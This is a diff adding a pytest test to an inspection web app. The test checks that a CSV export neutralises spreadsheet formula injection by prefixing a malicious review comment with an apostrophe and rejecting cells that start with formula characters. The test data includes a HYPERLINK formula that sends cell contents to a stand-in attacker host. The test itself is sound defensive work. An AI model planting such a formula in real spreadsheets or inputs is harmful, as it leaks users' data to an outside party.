@@ -125,3 +125,33 @@ async def test_unknown_inspection(hmi):
     ctx, new_user = hmi
     user = await login(new_user(), "emil", "/inspection/999999")
     await user.should_see("No inspection 999999.")
+
+
+async def test_csv_export_carries_a_formula_comment_as_text(hmi):
+    """Issue 19: a review comment typed as a spreadsheet formula is exported as text."""
+    ctx, new_user = hmi
+    run_parts(ctx.station, 3)
+    with ctx.store.session() as s:
+        rid = s.scalars(select(InspectionRow).order_by(InspectionRow.id)).first().id
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+    user = await login(new_user(), "emil", "/history")
+    await user.should_see("3 inspections match", retries=30)
+    user.find(marker="history-table").trigger("rowClick", [None, {"id": rid}, 0])
+    await user.should_see(marker="review-comment", retries=30)
+    only(user, "review-label").value = "wrong"
+    only(user, "review-comment").value = formula  # no markup: the form takes it as it is
+    user.find(marker="save-review").click()
+    await user.should_see(f"emil: WRONG — {formula}", retries=30)
+    await user.open("/history")
+    await user.should_see("3 inspections match", retries=30)
+    user.find(marker="export").click()
+    response = await user.download.next(timeout=10)
+    rows = list(csv.reader(io.StringIO(response.text, newline="")))
+    header = rows[0]
+    comments = {int(r[0]): r[header.index("review_comment")] for r in rows[1:]}
+    assert comments[rid] == "'" + formula  # shown as text by a spreadsheet, never run
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            if cell.startswith("-"):
+                float(cell)  # only a number may start with a minus
